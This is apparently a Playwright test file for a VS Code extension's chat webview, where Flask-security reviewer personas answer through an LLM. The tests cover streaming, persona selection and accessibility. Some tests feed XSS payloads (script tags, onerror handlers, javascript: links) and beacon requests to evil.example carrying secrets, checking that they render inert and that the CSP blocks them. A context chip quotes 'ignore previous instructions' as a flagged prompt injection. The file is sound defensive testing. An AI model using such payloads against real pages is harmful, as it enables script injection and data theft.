import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import type { FromWebview } from '../../client/src/chat/protocol';
import { FINDINGS, PERSONAS, SQL_ANSWER, XSS_ANSWER, init, turn } from './fixtures';
import {
  ROOT,
  clearPosted,
  ensureWebviewBundle,
  hostSends,
  launchChromium,
  openChat,
  postedMessages,
  startServer,
  until,
  violations,
  waitForPosted,
} from './harness';
import type { ChatPage, Harness } from './harness';

/** Evaluates a JavaScript expression in the page (strings: this project's tests have no DOM typings). */
function js<T>(page: Page, expression: string): Promise<T> {
  return page.evaluate<T>(expression);
}

/** Sends many host messages from inside the page, back to back, as a fast stream would arrive. */
async function streamDeltas(page: Page, turnId: string, text: string, chunk: number): Promise<void> {
  const pieces: string[] = [];
  for (let i = 0; i < text.length; i += chunk) pieces.push(text.slice(i, i + chunk));
  await page.evaluate(
    `(${JSON.stringify(pieces)}).forEach((text) => window.postMessage({ type: 'delta', turnId: ${JSON.stringify(turnId)}, text }, '*'))`,
  );
}

function lastPosted(messages: FromWebview[], type: FromWebview['type']): FromWebview | undefined {
  return messages.filter((m) => m.type === type).at(-1);
}

describe('chat webview in headless Chromium', () => {
  let harness: Harness;
  let browser: Browser;

  before(async () => {
    await ensureWebviewBundle();
    harness = await startServer();
    browser = await launchChromium();
  });

  after(async () => {
    await browser?.close();
    await harness?.close();
  });

  const allowed = (): Set<string> =>
    new Set(
      ['/', '/webview/chat.js', '/webview/chat.css', '/theme.css', '/favicon.ico'].map(
        (p) => harness.origin + p,
      ),
    );

  /** Opens the page, runs the test, then checks what must hold on every page: nothing left the harness. */
  async function withChat(
    test: (chat: ChatPage) => Promise<void>,
    options: { viewport?: { width: number; height: number }; expectViolations?: boolean } = {},
  ): Promise<void> {
    const chat = await openChat(browser, harness, options.viewport);
    try {
      await test(chat);
      assert.deepEqual(chat.escaped, [], 'a request left for somewhere other than the harness');
      if (!options.expectViolations) {
        const outside = chat.requests.filter((url) => !allowed().has(url));
        assert.deepEqual(outside, [], 'the page asked for something other than the harness’s own files');
      }
      assert.deepEqual(chat.dialogs, [], 'a dialog was opened');
      assert.deepEqual(chat.pageErrors, [], 'the page threw');
      if (!options.expectViolations) assert.deepEqual(await violations(chat.page), [], 'a CSP violation');
      assert.equal(chat.page.url(), `${harness.origin}/`, 'the webview navigated');
    } finally {
      await chat.context.close();
    }
  }

  it('says it is ready, then renders personas, model, key status and history from init', async () => {
    await withChat(async ({ page }) => {
      assert.deepEqual((await postedMessages(page))[0], { type: 'ready' });
      await hostSends(
        page,
        init({
          hasApiKey: false,
          history: [
            turn({
              id: 't1',
              answer: '**Use** parameterised queries.',
              model: 'claude-sonnet-5-5',
              usage: {
                inputTokens: 1200,
                outputTokens: 340,
                cacheReadTokens: 0,
                cacheWriteTokens: 0,
                costUsd: 0.0087,
              },
            }),
            turn({
              id: 't2',
              personaId: 'backend-security-expert',
              personaName: 'Backend Security Expert',
              answer: 'Partial answ',
              status: 'error',
              error: { message: 'Rate limited: try again in 30 s.', retryable: true },
            }),
            turn({
              id: 't3',
              personaId: 'backend-python-expert',
              personaName: 'Backend Python Expert',
              answer: 'From the local analysis: FS201 on line 12.',
              offline: true,
            }),
          ],
        }),
      );
      const select = page.getByLabel('Agent', { exact: true });
      await until(async () => (await select.isEnabled()) || undefined, 'the persona picker');
      const options = await js<{ text: string; value: string; disabled: boolean; group: string }[]>(
        page,
        `[...document.querySelectorAll('select option')].map((o) => ({ text: o.textContent, value: o.value, disabled: o.disabled, group: o.parentElement.label }))`,
      );
      assert.deepEqual(options, [
        {
          text: 'Flask Security Architect',
          value: 'flask-security-architect',
          disabled: false,
          group: 'Built-in agents',
        },
        {
          text: 'Backend Security Expert',
          value: 'backend-security-expert',
          disabled: false,
          group: 'Built-in agents',
        },
        {
          text: 'Backend Python Expert',
          value: 'backend-python-expert',
          disabled: false,
          group: 'Built-in agents',
        },
        {
          text: 'Backend Security Architect',
          value: 'backend-security-architect',
          disabled: false,
          group: 'Built-in agents',
        },
        { text: 'All four (answers side by side)', value: '*all', disabled: false, group: 'Together' },
        {
          text: 'Team Reviewer (workspace)',
          value: 'ws:team-reviewer',
          disabled: false,
          group: 'Workspace agents',
        },
        {
          text: 'broken-agent (invalid)',
          value: 'invalid:ws:broken-agent',
          disabled: true,
          group: 'Agent files with errors',
        },
      ]);
      assert.equal(await select.inputValue(), 'flask-security-architect');
      await page.getByText('1 agent file could not be loaded').click();
      await page.getByText('model must be one of sonnet, opus, haiku, inherit').waitFor();

      await page.getByText('Model: claude-sonnet-5-5').waitFor();
      await page.getByText('No API key: answers come from the local analysis (offline)').waitFor();
      await page.getByRole('button', { name: 'Set API key' }).click();
      await waitForPosted(page, (m) => m.type === 'setApiKey');
      await hostSends(page, { type: 'apiKey', hasApiKey: true });
      await page.getByText('API key set', { exact: true }).waitFor();
      await page.getByRole('button', { name: 'Change API key' }).waitFor();

      const log = page.getByRole('log');
      assert.equal(await log.getAttribute('aria-live'), 'polite');
      const headings = await log.getByRole('heading', { level: 2 }).allTextContents();
      assert.deepEqual(headings, [
        'Flask Security Architect',
        'Backend Security Expert',
        'Backend Python Expert',
      ]);
      await log.locator('strong', { hasText: 'Use' }).waitFor();
      await log.getByText('Tokens: 1,200 in · 340 out · ≈ $0.0087').waitFor();
      await log.getByText('Rate limited: try again in 30 s.').waitFor();
      await log.getByText('Offline: local analysis').waitFor();

      await page.getByRole('button', { name: 'Retry Backend Security Expert’s answer' }).click();
      assert.deepEqual(await waitForPosted(page, (m) => m.type === 'retry'), { type: 'retry', turnId: 't2' });

      await select.selectOption('ws:team-reviewer');
      assert.deepEqual(await waitForPosted(page, (m) => m.type === 'selectPersona'), {
        type: 'selectPersona',
        personaId: 'ws:team-reviewer',
      });
      await page.getByText('Our house rules.').waitFor();

      assert.equal(await page.getByText('Restricted mode', { exact: false }).isVisible(), false);
      await hostSends(
        page,
        init({ trusted: false, personas: PERSONAS.filter((p) => p.source === 'built-in') }),
      );
      await page.getByText('Restricted mode: workspace agents and project context are not loaded').waitFor();
    });
  });

  it('sends on Enter to the chosen persona, keeps Shift+Enter newlines, and keeps the draft across reloads', async () => {
    await withChat(async ({ page }) => {
      await hostSends(page, init());
      const select = page.getByLabel('Agent', { exact: true });
      await until(async () => (await select.isEnabled()) || undefined, 'the persona picker');
      await select.selectOption('backend-security-expert');
      const prompt = page.getByRole('textbox', { name: 'Your question' });
      await prompt.click();
      await page.keyboard.type('Is the webhook replay-safe?');
      await page.keyboard.press('Shift+Enter');
      await page.keyboard.type('Check the nonce.');
      assert.equal(await prompt.inputValue(), 'Is the webhook replay-safe?\nCheck the nonce.');
      assert.equal(lastPosted(await postedMessages(page), 'send'), undefined);

      await page.reload();
      await waitForPosted(page, (m) => m.type === 'ready');
      await hostSends(page, init());
      await until(async () => (await select.isEnabled()) || undefined, 'the persona picker after reload');
      assert.equal(await prompt.inputValue(), 'Is the webhook replay-safe?\nCheck the nonce.');
      assert.equal(await select.inputValue(), 'backend-security-expert');

      await prompt.focus();
      await page.keyboard.press('Enter');
      assert.deepEqual(await waitForPosted(page, (m) => m.type === 'send'), {
        type: 'send',
        personaId: 'backend-security-expert',
        prompt: 'Is the webhook replay-safe?\nCheck the nonce.',
      });
      assert.equal(await prompt.inputValue(), '');

      await clearPosted(page);
      await select.selectOption('*all');
      await prompt.fill('Review the login flow');
      await prompt.press('Enter');
      assert.deepEqual(await waitForPosted(page, (m) => m.type === 'send'), {
        type: 'send',
        personaId: '*all',
        prompt: 'Review the login flow',
      });
      // "All four" is not a persona: choosing it does not tell the host to select one.
      assert.equal(lastPosted(await postedMessages(page), 'selectPersona'), undefined);

      await page.reload();
      await waitForPosted(page, (m) => m.type === 'ready');
      assert.equal(await prompt.inputValue(), '', 'a sent question is not kept as a draft');
    });
  });

  it('renders streamed markdown progressively, stops, retries, and offers block actions once done', async () => {
    await withChat(async ({ page }) => {
      await hostSends(page, init());
      await hostSends(page, { type: 'turnStart', turn: turn({ id: 't1', status: 'streaming' }) });
      const answer = page.locator('article .answer').first();
      await answer.getByText('Waiting for the first words…').waitFor();
      assert.equal(await answer.getAttribute('aria-busy'), 'true');
      const stop = page.locator('.composer').getByRole('button', { name: 'Stop the answer' });
      await stop.waitFor();
      assert.equal(await page.locator('.composer').getByRole('button', { name: 'Send' }).isVisible(), false);

      await hostSends(page, { type: 'delta', turnId: 't1', text: '## Find' });
      await hostSends(page, { type: 'delta', turnId: 't1', text: 'ings\n\nThe query uses **string for' });
      await answer.locator('h5', { hasText: 'Findings' }).waitFor();
      await hostSends(page, { type: 'delta', turnId: 't1', text: 'matting**.\n\n```python\ncur.execute(f"' });
      await answer.locator('strong', { hasText: 'string formatting' }).waitFor();
      await answer.locator('pre code', { hasText: 'cur.execute' }).waitFor();
      assert.equal(
        await answer.getByRole('button').count(),
        0,
        'no Apply while the block is still streaming',
      );

      await stop.click();
      assert.deepEqual(await waitForPosted(page, (m) => m.type === 'stop'), { type: 'stop', turnId: 't1' });
      await hostSends(page, {
        type: 'turnEnd',
        turn: turn({
          id: 't1',
          status: 'stopped',
          answer: '## Findings\n\nThe query uses **string formatting**.\n\n```python\ncur.execute(f"',
        }),
      });
      await page.getByText('Stopped', { exact: true }).waitFor();
      assert.equal(await answer.getAttribute('aria-busy'), 'false');
      await page.locator('.composer').getByRole('button', { name: 'Send' }).waitFor();
      await page.getByRole('button', { name: 'Retry Flask Security Architect’s answer' }).click();
      assert.deepEqual(await waitForPosted(page, (m) => m.type === 'retry'), { type: 'retry', turnId: 't1' });

      // A long answer in many small deltas: appended at once, re-rendered on a throttle.
      await hostSends(page, { type: 'turnStart', turn: turn({ id: 't2', status: 'streaming' }) });
      const long = `${Array.from({ length: 400 }, (_, i) => `- item **${i}** with some text to render`).join('\n')}\n\nEND-OF-ANSWER`;
      const started = Date.now();
      await streamDeltas(page, 't2', long, 7);
      const second = page.locator('article .answer').nth(1);
      await second.getByText('END-OF-ANSWER').waitFor();
      assert.ok(Date.now() - started < 5000, 'streaming 2,500 deltas took too long');
      await until(async () => (await second.locator('li').count()) === 400 || undefined, 'all list items');

      await hostSends(page, {
        type: 'turnEnd',
        turn: turn({
          id: 't2',
          answer: SQL_ANSWER,
          usage: {
            inputTokens: 900,
            outputTokens: 120,
            cacheReadTokens: 800,
            cacheWriteTokens: 0,
            costUsd: 0.0021,
          },
        }),
      });
      await page.getByText('Tokens: 900 in · 120 out · cache 800 read / 0 written · ≈ $0.0021').waitFor();
      await clearPosted(page);
      const done = page.locator('article').nth(1);
      await done.getByRole('button', { name: 'Show diff for code block 2' }).click();
      await done
        .getByRole('button', { name: 'Apply code block 1 (shows the change and asks first)' })
        .click();
      await done.getByRole('button', { name: 'Copy Flask Security Architect’s answer' }).click();
      await done.getByRole('link', { name: 'OWASP cheat sheet' }).click();
      await done.getByRole('button', { name: 'Insert code block 1 at the cursor in the editor' }).click();
      await done.getByRole('button', { name: 'Copy code block 2' }).click();
      await until(async () => (await postedMessages(page)).length === 6 || undefined, 'six messages');
      assert.deepEqual(await postedMessages(page), [
        { type: 'showDiff', turnId: 't2', target: 'codeBlock', index: 1 },
        { type: 'applyFix', turnId: 't2', target: 'codeBlock', index: 0 },
        { type: 'copy', turnId: 't2' },
        {
          type: 'openLink',
          url: 'https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html',
        },
        { type: 'insertAtCursor', turnId: 't2', index: 0 },
        { type: 'copyBlock', turnId: 't2', index: 1 },
      ]);
    });
  });

  it('renders hostile model output inert: nothing runs, nothing loads, links only ask the host', async () => {
    await withChat(async ({ page }) => {
      await hostSends(page, init());
      const hostile = '<img src=x onerror="window.__pwned=\'name\'">';
      await hostSends(page, {
        type: 'turnStart',
        turn: turn({
          id: 'x1',
          status: 'streaming',
          personaName: `Evil ${hostile}`,
          prompt: `<script>window.__pwned='prompt'</script>`,
          context: [{ kind: 'file', label: `app.py${hostile}`, detail: '<svg onload=alert(1)>' }],
        }),
      });
      await streamDeltas(page, 'x1', XSS_ANSWER, 7);
      await page.getByRole('log').getByText('legit docs').waitFor();
      await hostSends(page, {
        type: 'turnEnd',
        turn: turn({
          id: 'x1',
          personaName: `Evil ${hostile}`,
          prompt: `<script>window.__pwned='prompt'</script>`,
          answer: XSS_ANSWER,
          findings: [
            {
              severity: 'critical',
              title: `<img src=x onerror="window.__pwned='title'">`,
              explanation: `<script>window.__pwned='explanation'</script> [x](javascript:alert(1))`,
              replacement: `</code></pre><img src=x onerror="window.__pwned='replacement'">`,
              line: 1,
            },
          ],
        }),
      });
      await hostSends(page, { type: 'notice', level: 'error', message: hostile });
      await hostSends(page, { type: 'context', chips: [{ kind: 'note', label: hostile }] });
      await page.getByRole('heading', { name: 'Findings (1)' }).waitFor();
      // Give anything that might have been scheduled (onerror, onload, timers) a chance to fire.
      await page.waitForTimeout(300);

      assert.equal(await js<unknown>(page, 'window.__pwned'), undefined);
      const app = await js<{ tags: string[]; handlers: string[]; hrefs: number; styles: number }>(
        page,
        `(() => {
          const all = [...document.querySelectorAll('#app *')];
          return {
            tags: [...new Set(all.map((e) => e.tagName.toLowerCase()))].filter((t) =>
              ['img', 'script', 'svg', 'iframe', 'style', 'form', 'object', 'embed', 'link', 'meta', 'base', 'math'].includes(t)),
            handlers: all.flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
            hrefs: document.querySelectorAll('#app [href], #app [src], #app [action]').length,
            styles: document.querySelectorAll('#app [style]').length,
          };
        })()`,
      );
      assert.deepEqual(app, { tags: [], handlers: [], hrefs: 0, styles: 0 });
      assert.equal(
        await js<number>(page, `document.images.length + document.scripts.length`),
        1,
        'only chat.js',
      );

      const log = page.getByRole('log');
      // Raw HTML is shown as text, so the user sees what the model tried.
      await log.getByText('<img src=x onerror="window.__pwned = \'img\'; alert(1)">').waitFor();
      await log.getByText('[image not loaded: x (https://evil.example/?q=secret)]').waitFor();
      await log
        .getByText('[image not loaded: tracking pixel (https://evil.example/pixel.gif?k=AKIA1234)]')
        .waitFor();
      await log.getByRole('heading', { name: `Evil ${hostile}` }).waitFor();
      await page.getByText(hostile).first().waitFor();
      // Only the http(s) link is a link; javascript:, data:, vbscript:, command: and raw <a> are text.
      assert.deepEqual(await log.getByRole('link').allTextContents(), ['legit docs']);
      await log.getByText("[click me](javascript:window.__pwned='js-link')").waitFor();
      // markdown-it accepts command: links; the allow-list turns them into plain text.
      await log.getByText('run a command', { exact: true }).waitFor();
      await clearPosted(page);
      await log.getByRole('link', { name: 'legit docs' }).click();
      await log.getByText('raw html link').click();
      await page.waitForTimeout(100);
      assert.deepEqual(await postedMessages(page), [
        { type: 'openLink', url: 'https://flask.palletsprojects.com/en/stable/security/' },
      ]);
      assert.equal(await js<unknown>(page, 'window.__pwned'), undefined);
    });
  });

  it('is protected by its CSP: an injected inline script, style attribute or remote image is blocked', async () => {
    await withChat(
      async ({ page, requests, escaped, failed }) => {
        await hostSends(page, init());
        await page.getByRole('log').waitFor();
        assert.deepEqual(await violations(page), [], 'the page itself violates nothing');
        await page.evaluate(`(() => {
          const script = document.createElement('script');
          script.textContent = 'window.__injected = true';
          document.body.append(script);
          const img = new Image();
          img.src = 'https://evil.example/beacon?secret=1';
          document.body.append(img);
          const styled = document.createElement('div');
          styled.setAttribute('style', 'background: url(https://evil.example/bg)');
          document.body.append(styled);
        })()`);
        const seen = await until(async () => {
          const v = await violations(page);
          return (
            v.some((x) => x.directive === 'script-src-elem') && v.some((x) => x.directive === 'img-src') && v
          );
        }, 'the CSP violations');
        assert.ok(seen.some((v) => v.directive === 'style-src-attr'));
        assert.equal(await js<unknown>(page, 'window.__injected'), undefined);
        // Chromium reports the image request, then fails it inside the renderer: it never reaches the network.
        await until(() => failed.length > 0 || undefined, 'the blocked request to fail');
        assert.deepEqual(
          requests.filter((url) => url.includes('evil.example')),
          ['https://evil.example/beacon?secret=1'],
        );
        assert.deepEqual(failed, [{ url: 'https://evil.example/beacon?secret=1', error: 'csp' }]);
        assert.deepEqual(escaped, []);
      },
      { expectViolations: true },
    );
  });

  it('drops host messages that do not match the protocol, with a console warning', async () => {
    await withChat(async ({ page, consoleMessages }) => {
      await hostSends(page, init({ history: [turn({ id: 't1', answer: 'Only turn.' })] }));
      await page.getByRole('log').getByText('Only turn.').waitFor();
      const invalid: unknown[] = [
        'hello',
        null,
        42,
        { type: 'nope' },
        { type: 'delta', turnId: 't1', text: 5 },
        { type: 'turnStart', turn: { ...turn({ id: 't2' }), status: 'pwned' } },
        { type: 'turnStart', turn: turn({ id: 'x'.repeat(101) }) },
        { type: 'init', personas: 'all of them' },
        { type: 'history', history: [{ ...turn({ id: '' }) }] },
        { type: 'notice', level: 'fatal', message: 'boom' },
        { type: 'context', chips: [{ kind: 'script', label: 'x' }] },
        { type: 'apiKey', hasApiKey: 'yes' },
      ];
      for (const message of invalid) await hostSends(page, message);
      await hostSends(page, { type: 'notice', level: 'info', message: 'After the invalid ones.' });
      await page.getByText('After the invalid ones.').waitFor();

      const warnings = consoleMessages.filter(
        (m) => m.type === 'warning' && m.text.startsWith('[flask-sentinel] dropped an invalid'),
      );
      assert.equal(warnings.length, invalid.length);
      assert.ok(
        !warnings.some((w) => w.text.includes('pwned') || w.text.includes('boom')),
        'contents are not logged',
      );
      assert.equal(await page.getByRole('log').locator('article').count(), 1);
      assert.equal(await page.getByText('API key set', { exact: true }).isVisible(), true);
    });
  });

  it('shows finding cards whose buttons post ids only', async () => {
    await withChat(async ({ page }) => {
      await hostSends(page, init({ history: [turn({ id: 't1', answer: SQL_ANSWER, findings: FINDINGS })] }));
      const cards = page.locator('li.finding');
      await until(async () => (await cards.count()) === 3 || undefined, 'three cards');
      const first = cards.nth(0);
      assert.equal(
        (await first.locator('.finding-meta').innerText()).replace(/\s+/g, ' ').trim(),
        '▲High CWE-89 Line 12',
      );
      assert.equal(await first.locator('.severity-icon').getAttribute('aria-hidden'), 'true');
      await first.getByRole('heading', { name: 'SQL built from request data' }).waitFor();
      await first.getByText('name comes from request.args').waitFor();
      await cards.nth(1).getByText('Lines 30–31').waitFor();
      assert.equal(await cards.nth(2).getByRole('button').count(), 0, 'no line, no replacement: no buttons');
      await cards.nth(2).getByText('Info').waitFor();

      await clearPosted(page);
      await first.getByRole('button', { name: 'Go to line 12' }).click();
      await cards
        .nth(1)
        .getByRole('button', { name: /^Show diff for finding 2/ })
        .click();
      await cards
        .nth(1)
        .getByRole('button', { name: /^Apply the fix for finding 2/ })
        .click();
      await cards.nth(1).getByRole('button', { name: 'Go to lines 30–31' }).click();
      await until(async () => (await postedMessages(page)).length === 4 || undefined, 'four messages');
      const posted = await postedMessages(page);
      assert.deepEqual(posted, [
        { type: 'reveal', turnId: 't1', index: 0 },
        { type: 'showDiff', turnId: 't1', target: 'finding', index: 1 },
        { type: 'applyFix', turnId: 't1', target: 'finding', index: 1 },
        { type: 'reveal', turnId: 't1', index: 1 },
      ]);
      assert.doesNotMatch(JSON.stringify(posted), /execute|debug|SELECT/);
    });
  });

  it('lays out "review with all four" side by side, stacked when narrow, and stops all of them', async () => {
    await withChat(
      async ({ page }) => {
        const builtIn = PERSONAS.filter((p) => p.source === 'built-in');
        await hostSends(
          page,
          init({
            history: [
              turn({ id: 'solo', answer: 'A single answer first.' }),
              ...builtIn.map((p, i) =>
                turn({
                  id: `g1-${i}`,
                  group: 'g1',
                  personaId: p.id,
                  personaName: p.name,
                  prompt: 'Review the payment webhook',
                  answer: `Answer from ${p.name}.`,
                }),
              ),
            ],
          }),
        );
        const group = page.getByRole('region', { name: 'Review with all four' });
        await group.waitFor();
        await group.getByText('Review the payment webhook').waitFor();
        assert.deepEqual(
          await group.getByRole('heading', { level: 3 }).allTextContents(),
          builtIn.map((p) => p.name),
        );
        const boxes = async () => {
          const result = [];
          for (const article of await group.locator('article').all())
            result.push(await article.boundingBox());
          return result.map((b) => ({ x: Math.round(b?.x ?? -1), y: Math.round(b?.y ?? -1) }));
        };
        const wide = await boxes();
        assert.ok(
          wide.every((b) => b.y === wide[0]?.y),
          `side by side: ${JSON.stringify(wide)}`,
        );
        assert.ok(wide.every((b, i) => i === 0 || b.x > (wide[i - 1]?.x ?? 0)));

        await page.setViewportSize({ width: 400, height: 900 });
        const narrow = await boxes();
        assert.ok(
          narrow.every((b, i) => b.x === narrow[0]?.x && (i === 0 || b.y > (narrow[i - 1]?.y ?? 0))),
          `stacked: ${JSON.stringify(narrow)}`,
        );

        await page.setViewportSize({ width: 1400, height: 900 });
        for (const [i, p] of builtIn.entries()) {
          await hostSends(page, {
            type: 'turnStart',
            turn: turn({
              id: `g2-${i}`,
              group: 'g2',
              personaId: p.id,
              personaName: p.name,
              status: 'streaming',
            }),
          });
          await hostSends(page, { type: 'delta', turnId: `g2-${i}`, text: `Streaming from **${p.name}**` });
        }
        const second = page.getByRole('region', { name: 'Review with all four' }).nth(1);
        await second.locator('strong', { hasText: 'Backend Security Architect' }).waitFor();
        await clearPosted(page);
        await page.locator('.composer').getByRole('button', { name: 'Stop all answers' }).click();
        await until(async () => (await postedMessages(page)).length === 4 || undefined, 'four stops');
        assert.deepEqual(
          await postedMessages(page),
          builtIn.map((_, i) => ({ type: 'stop', turnId: `g2-${i}` })),
        );
      },
      { viewport: { width: 1400, height: 900 } },
    );
  });

  it('shows the context that will be sent as chips, and clears it', async () => {
    await withChat(async ({ page }) => {
      await hostSends(page, init());
      await hostSends(page, {
        type: 'context',
        prompt: 'Review lines 10–24 of app.py',
        chips: [
          { kind: 'file', label: 'app.py', detail: 'examples/vulnerable-app/app.py' },
          { kind: 'range', label: 'Lines 10–24' },
          { kind: 'finding', label: 'FS201 sql-built-from-strings (line 12)' },
          { kind: 'diff', label: 'git diff: 3 files' },
          { kind: 'redaction', label: '1 secret redacted (AWS access key)' },
          {
            kind: 'note',
            label: 'Possible prompt injection in the selection: “ignore previous instructions”',
          },
        ],
      });
      const chips = page.getByRole('list', { name: 'Context that will be sent' });
      await chips.waitFor();
      // Visible: icon and label; for screen readers also the kind and the detail (the icon is aria-hidden).
      assert.deepEqual(
        await js<string[]>(
          page,
          `[...document.querySelectorAll('.composer .chip')].map((c) => c.textContent)`,
        ),
        [
          '▤File: app.py (examples/vulnerable-app/app.py)',
          '↕Lines: Lines 10–24',
          '⚑Finding: FS201 sql-built-from-strings (line 12)',
          '±Diff: git diff: 3 files',
          '✱Redacted: 1 secret redacted (AWS access key)',
          '⚠Note: Possible prompt injection in the selection: “ignore previous instructions”',
        ],
      );
      assert.equal(await chips.locator('.chip-icon[aria-hidden="true"]').count(), 6);
      await chips.getByText('Possible prompt injection in the selection').waitFor();
      const prompt = page.getByRole('textbox', { name: 'Your question' });
      assert.equal(await prompt.inputValue(), 'Review lines 10–24 of app.py');
      assert.equal(await js<string>(page, 'document.activeElement.tagName'), 'TEXTAREA');

      await page.getByRole('button', { name: 'Clear the context' }).click();
      await waitForPosted(page, (m) => m.type === 'clearContext');
      assert.equal(await chips.count(), 0);
    });
  });

  it('works from the keyboard alone, with visible focus', async () => {
    await withChat(async ({ page }) => {
      await hostSends(page, init({ history: [turn({ id: 't0', answer: 'Earlier answer.' })] }));
      await hostSends(page, { type: 'context', chips: [{ kind: 'file', label: 'app.py' }] });
      await page.getByText('Earlier answer.').waitFor();
      const focused = () =>
        js<{ tag: string; name: string; outline: string }>(
          page,
          `(() => {
            const e = document.activeElement;
            return {
              tag: e.tagName,
              name: (e.getAttribute('aria-label') || e.textContent || '').trim().slice(0, 60),
              outline: getComputedStyle(e).outlineStyle,
            };
          })()`,
        );
      const visited: string[] = [];
      for (let i = 0; i < 40; i++) {
        await page.keyboard.press('Tab');
        const f = await focused();
        assert.notEqual(f.outline, 'none', `no visible focus on ${f.tag} ${f.name}`);
        visited.push(`${f.tag}:${f.name}`);
        if (f.tag === 'TEXTAREA') break;
      }
      assert.equal(
        visited.at(-1)?.startsWith('TEXTAREA'),
        true,
        `never reached the prompt: ${visited.join(' | ')}`,
      );
      for (const expected of [
        'SELECT',
        'Export to Markdown',
        'Clear history…',
        'Copy',
        'Clear the context',
      ]) {
        assert.ok(
          visited.some((v) => v.includes(expected)),
          `${expected} is not reachable by Tab: ${visited.join(' | ')}`,
        );
      }

      await page.keyboard.type('Check this route');
      await page.keyboard.press('Enter');
      assert.deepEqual(await waitForPosted(page, (m) => m.type === 'send'), {
        type: 'send',
        personaId: 'flask-security-architect',
        prompt: 'Check this route',
      });
      await hostSends(page, {
        type: 'turnStart',
        turn: turn({ id: 't1', status: 'streaming', prompt: 'Check this route' }),
      });
      await page.locator('.composer').getByRole('button', { name: 'Stop the answer' }).waitFor();
      await page.keyboard.press('Tab');
      const stop = await focused();
      assert.equal(stop.name, 'Stop the answer');
      assert.notEqual(stop.outline, 'none');
      await page.keyboard.press('Enter');
      assert.deepEqual(await waitForPosted(page, (m) => m.type === 'stop'), { type: 'stop', turnId: 't1' });
      await hostSends(page, {
        type: 'turnEnd',
        turn: turn({ id: 't1', status: 'stopped', prompt: 'Check this route' }),
      });
      await until(async () => (await focused()).tag === 'TEXTAREA' || undefined, 'focus back in the prompt');

      // Clearing the history asks first, in the panel (no dialog); Escape cancels.
      await page.getByRole('button', { name: 'Clear history…' }).focus();
      await page.keyboard.press('Enter');
      await until(async () => (await focused()).name === 'Cancel' || undefined, 'focus on Cancel');
      await page.getByText('Delete all 2 answers of this workspace’s history?').waitFor();
      await page.keyboard.press('Escape');
      await until(async () => (await focused()).name === 'Clear history…' || undefined, 'focus back');
      assert.equal(lastPosted(await postedMessages(page), 'clearHistory'), undefined);
      await page.keyboard.press('Enter');
      await page.keyboard.press('Shift+Tab');
      assert.equal((await focused()).name, 'Delete history');
      await page.keyboard.press('Enter');
      await waitForPosted(page, (m) => m.type === 'clearHistory');
      assert.equal(await page.getByRole('log').locator('article').count(), 0);

      await hostSends(page, init({ history: [turn({ id: 't2', answer: 'x' })] }));
      // Wait for the re-render, so the button focused is the one on the page, not a replaced one.
      await page.getByRole('log').locator('article').first().waitFor();
      await page.getByRole('button', { name: 'Export to Markdown' }).focus();
      await page.keyboard.press('Enter');
      await waitForPosted(page, (m) => m.type === 'exportHistory');
    });
  });

  it('saves a screenshot of a busy panel (test-results/webview/chat.png)', async () => {
    await withChat(
      async ({ page }) => {
        await page.addStyleTag({ url: `${harness.origin}/theme.css` });
        await page.evaluate(`document.body.classList.add('vscode-dark')`);
        const builtIn = PERSONAS.filter((p) => p.source === 'built-in');
        await hostSends(
          page,
          init({
            history: [
              turn({
                id: 'a1',
                prompt: 'Is the search route safe?',
                context: [
                  { kind: 'file', label: 'app.py' },
                  { kind: 'range', label: 'Lines 10–24' },
                  { kind: 'finding', label: 'FS201 (line 12)' },
                ],
                answer: SQL_ANSWER,
                findings: FINDINGS.slice(0, 2),
                model: 'claude-sonnet-5-5',
                usage: {
                  inputTokens: 2310,
                  outputTokens: 412,
                  cacheReadTokens: 1800,
                  cacheWriteTokens: 0,
                  costUsd: 0.0093,
                },
              }),
              ...builtIn.map((p, i) =>
                turn({
                  id: `g-${i}`,
                  group: 'g',
                  personaId: p.id,
                  personaName: p.name,
                  prompt: 'Review the payment webhook',
                  answer: `**${['Replay', 'Signature', 'Amount', 'Audit'][i]}**: ${
                    [
                      'the webhook accepts a replayed event; check the nonce and timestamp.',
                      'verify the HMAC with `hmac.compare_digest`.',
                      'validate the amount against the order, not the payload.',
                      'log the event id and outcome, never the card data.',
                    ][i]
                  }`,
                  status: i === 3 ? 'error' : 'done',
                  error:
                    i === 3
                      ? { message: 'Overloaded (529): try again shortly.', retryable: true }
                      : undefined,
                  offline: i === 2,
                }),
              ),
            ],
          }),
        );
        await hostSends(page, {
          type: 'turnStart',
          turn: turn({ id: 's1', status: 'streaming', prompt: 'And the login route?' }),
        });
        await hostSends(page, {
          type: 'delta',
          turnId: 's1',
          text: 'The login route has **no rate limiting**; ',
        });
        await hostSends(page, {
          type: 'context',
          chips: [
            { kind: 'file', label: 'auth.py' },
            { kind: 'range', label: 'Lines 40–58' },
            { kind: 'redaction', label: '1 secret redacted' },
          ],
        });
        await hostSends(page, { type: 'notice', level: 'info', message: 'Answers use claude-sonnet-5-5.' });
        await page.getByText('no rate limiting').waitFor();
        const file = path.join(ROOT, 'test-results', 'webview', 'chat.png');
        fs.mkdirSync(path.dirname(file), { recursive: true });
        await page.screenshot({ path: file, fullPage: false });
        assert.ok(fs.statSync(file).size > 10_000);
      },
      { viewport: { width: 1280, height: 1400 } },
    );
  });
});
